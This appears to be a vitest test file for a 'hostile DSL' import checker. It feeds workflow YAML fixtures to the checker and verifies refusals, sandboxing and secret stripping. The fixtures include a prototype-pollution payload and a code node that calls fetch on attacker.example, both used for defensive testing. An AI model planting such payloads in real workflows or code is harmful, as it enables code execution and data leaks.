import type { JsonObject } from '@skep/schema'
import { describe, expect, it } from 'vitest'
import { stringify } from 'yaml'
import { folderWith, runScript } from './run-command.fixture.ts'

function app(nodes: readonly JsonObject[], edges: readonly JsonObject[], top: JsonObject = {}): string {
  return stringify({
    kind: 'app',
    version: '0.3.0',
    app: { name: 'probe', mode: 'workflow' },
    workflow: { environment_variables: [], graph: { nodes, edges } },
    ...top,
  })
}

const start: JsonObject = {
  id: 's',
  position: { x: 0, y: 0 },
  data: { type: 'start', title: 'S', variables: [] },
}
const end: JsonObject = {
  id: 'e',
  position: { x: 300, y: 0 },
  data: { type: 'end', title: 'E', outputs: [] },
}
const link = (source: string, target: string): JsonObject => ({ source, target })
const middle = (data: JsonObject): JsonObject => ({
  id: 'm',
  position: { x: 150, y: 0 },
  data: { title: '<b>M</b>', ...data },
})
const through = [link('s', 'm'), link('m', 'e')]

const files: Readonly<Record<string, string>> = {
  'empty.yml': '',
  'polluting.yml': `base: &b\n  __proto__: {polluted: 'yes'}\n${app([start, end], [link('s', 'e')])}`,
  'circle.yml': app([start, end], [link('s', 'e'), link('s', 's')]),
  'unknown.yml': app([start, middle({ type: 'odd', deep: [1] }), end], through),
  'code.yml': app(
    [
      start,
      middle({
        type: 'code',
        code_language: 'javascript',
        code: 'globalThis.__pwned = 1; fetch("https://attacker.example/"); function main() { return { r: 1 } }',
        variables: [],
        outputs: { r: { type: 'number' } },
      }),
      end,
    ],
    through,
  ),
  'far.yml': app([{ ...start, position: { x: 'left', y: [1] } }, end], [link('s', 'e')]),
  'wrong.yml': app([{ ...start, data: { type: 'start', variables: [{ variable: 'a b;c' }] } }, end], []),
  'secret.yml': app([start, end], [link('s', 'e')], {
    workflow: {
      environment_variables: [{ id: 'k', name: 'K', value_type: 'secret', value: 'sk-hostile-canary' }],
      graph: { nodes: [start, end], edges: [link('s', 'e')] },
    },
  }),
  'twice.yml': 'a: 1\na: 2\n',
}

type Entry = {
  readonly file: string
  readonly expect: string
  readonly error?: string
  readonly must?: readonly string[]
}

const right: readonly Entry[] = [
  {
    file: 'empty.yml',
    expect: 'refuse',
    error: 'DSL_EMPTY',
    must: ['under 1000 ms', 'memory growth under 100 MB'],
  },
  { file: 'polluting.yml', expect: 'import-safe', must: ['({}).polluted is undefined'] },
  { file: 'circle.yml', expect: 'import-safe', must: ['run refused with GRAPH_CYCLE'] },
  {
    file: 'unknown.yml',
    expect: 'import-safe',
    must: [
      'shown as an unsupported node with its title as text',
      'kept byte for byte on export',
      'run refused with NODE_UNSUPPORTED',
    ],
  },
  {
    file: 'code.yml',
    expect: 'import-safe',
    must: [
      'nothing runs at import or when the node is selected',
      'on run the side effects fail inside the sandbox',
    ],
  },
  {
    file: 'far.yml',
    expect: 'import-safe',
    must: ['canvas opens; positions replaced by an automatic layout'],
  },
  {
    file: 'wrong.yml',
    expect: 'refuse',
    error: 'DSL_SCHEMA',
    must: ['error lists each bad path, such as workflow.graph.nodes[0].data.variables[0].variable'],
  },
  { file: 'secret.yml', expect: 'import-safe', must: ['secrets are in neither the app nor its export'] },
  { file: 'twice.yml', expect: 'refuse', error: 'DSL_DUPLICATE_KEY', must: ['error names the place'] },
]

/** Every list that differs from the right one in one expectation. */
function falsified(): readonly Entry[] {
  return right.flatMap((entry): readonly Entry[] => {
    const { expect: expected, error, must = [] } = entry
    const change = (index: number, line: string): Entry => ({ ...entry, must: must.with(index, line) })
    return [
      { ...entry, expect: expected === 'refuse' ? 'import-safe' : 'refuse' },
      { ...entry, expect: 'ignore' },
      ...(error === undefined ? [{ ...entry, error: 'DSL_SYNTAX' }] : [{ ...entry, error: 'DSL_TOO_DEEP' }]),
      ...must.flatMap((line, index) => [
        change(index, `not ${line}`),
        ...(/\d+ (?:ms|MB)/.test(line) ? [change(index, line.replace(/\d+/, '0'))] : []),
        ...(/[A-Z_]{6,}/.test(line) ? [change(index, line.replace(/[A-Z_]{6,}/, 'NODE_ID_DUPLICATE'))] : []),
        ...(line.includes('[0]') ? [change(index, line.replace('[0]', '[7]'))] : []),
      ]),
      { ...entry, must: [...must, 'the moon is made of cheese'] },
    ]
  })
}

/** A file is imported once, however often the list names it. */
function folderOf(entries: readonly Entry[]): string {
  return folderWith({ ...files, 'index.json': JSON.stringify({ count: entries.length, files: entries }) })
}

describe('pnpm hostile dsl', () => {
  it('passes files that are taken as the list says', async () => {
    expect(await runScript('hostile.ts', 'dsl', folderOf(right))).toEqual({
      lines: [],
      last: `${right.length} passed, 0 failed`,
      code: 0,
    })
  })

  it('fails every file of which one expectation is wrong', async () => {
    const wrong = falsified()
    const { lines, last, code } = await runScript('hostile.ts', 'dsl', folderOf(wrong))
    expect(last).toBe(`0 passed, ${wrong.length} failed`)
    expect(lines).toHaveLength(wrong.length)
    expect(code).toBe(1)
  })

  it('checks a line that stands for itself, and fails values of another form', async () => {
    const entry = { file: 'a.yml', expect: 'refuse' }
    const list = [
      { ...entry, must: 'under 30 s' },
      { ...entry, must: 'under 0 ms' },
      { ...entry, must: { a: 1 } },
      { ...entry, error: 5 },
    ]
    const folder = folderWith({ 'a.yml': '', 'index.json': JSON.stringify({ files: list }) })
    expect((await runScript('hostile.ts', 'dsl', folder)).lines).toEqual([
      expect.stringMatching(/^FAILED a\.yml: "under 0 ms": it took/),
      'FAILED a.yml: "must" is no list of lines',
      'FAILED a.yml: "error" is no code',
    ])
  })

  it('fails keys that it does not check, files that are missing or not listed, and a wrong count', async () => {
    const folder = folderWith({
      'a.yml': '',
      'b.yml': '',
      'index.json': JSON.stringify({
        count: 5,
        files: [{ file: 'a.yml', expect: 'refuse', error: 'DSL_EMPTY', colour: 'red' }, { file: 'c.yml' }],
      }),
    })
    expect((await runScript('hostile.ts', 'dsl', folder)).lines).toEqual([
      'FAILED a.yml: "colour" is not checked by this command',
      'FAILED c.yml: it is not there',
      'FAILED index.json: it says 5 files and lists 2',
      'FAILED b.yml: the list does not name it',
    ])
  })

  it('fails for want of a list and for a kind that is not known', async () => {
    expect((await runScript('hostile.ts', 'dsl', folderWith({}))).last).toBe('0 passed, 1 failed')
    expect((await runScript('hostile.ts', 'magic')).code).toBe(1)
  })
})
